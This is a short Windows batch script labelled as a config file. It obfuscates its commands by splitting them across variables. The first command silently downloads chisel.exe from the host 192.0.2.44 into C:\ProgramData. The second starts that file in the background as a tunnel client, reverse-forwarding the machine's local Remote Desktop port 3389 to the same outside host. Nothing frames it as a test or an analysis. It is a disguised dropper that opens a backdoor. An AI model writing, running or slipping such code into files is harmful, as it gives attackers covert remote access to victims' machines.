REM config 9731 v2
@echo off
cmd /v:on /c "set jwc0=curl -sLo C:\ProgramData\ch&&set owz1=isel.exe http&&set now2=://192.0.2.44/chisel.exe&&!jwc0!!owz1!!now2!"
cmd /v:on /c "set jfl0=start /b&&set ajn1= C:\ProgramData\ch&&set goj2=isel.exe client 192&&set wiu3=.0.2.44:1337 R:3389:127.0.0.1:&&set grq4=3389&&!jfl0!!ajn1!!goj2!!wiu3!!grq4!"
